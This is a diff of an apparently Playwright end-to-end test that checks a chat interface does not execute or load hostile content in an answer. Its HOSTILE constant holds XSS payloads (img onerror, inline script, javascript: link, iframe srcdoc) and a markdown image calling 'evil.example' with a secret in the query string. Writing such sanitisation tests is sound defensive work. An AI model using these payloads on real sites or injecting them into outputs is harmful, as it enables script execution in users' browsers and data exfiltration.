@@ -19,9 +19,9 @@ expect.set_options(timeout=30_000)
 OUTAGE = re.compile(r"net::ERR_(CONNECTION|EMPTY_RESPONSE|SOCKET)|WebSocket connection to")
 QUIET = ["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking"]
 HOSTILE = (
-    "<img src=x onerror=\"document.title='owned'\"> <script>document.title='owned'</script> "
-    "[a](javascript:document.title='owned') ![p](https://evil.example/p.png?q=secret) "
-    "<iframe srcdoc=\"<script>parent.document.title='owned'</script>\"></iframe>"
+    '<img src=x onerror="window.owned=1"> <script>window.owned=1</script> '
+    "[a](javascript:window.owned=1) ![p](https://evil.example/p.png?q=secret) "
+    '<iframe srcdoc="<script>parent.owned=1</script>"></iframe>'
 )
 
 
@@ -122,7 +122,8 @@ async def test_nothing_in_an_answer_runs_or_loads(page: Page, stack: Stack, mode
     await ask(page, HOSTILE)
     await expect(page.get_by_role("button", name="Stop")).to_be_hidden()
     await expect(talk(page).get_by_text(re.compile("iframe|evil")).first).to_be_visible()
-    assert "owned" not in await page.title()
+    await expect(page).to_have_title(re.compile("^<img src=x onerror="))  # its words, as words
+    assert not await page.evaluate("'owned' in window")
     assert await page.locator("iframe, script:not([src]), img[src*='evil']").count() == 0
 
 
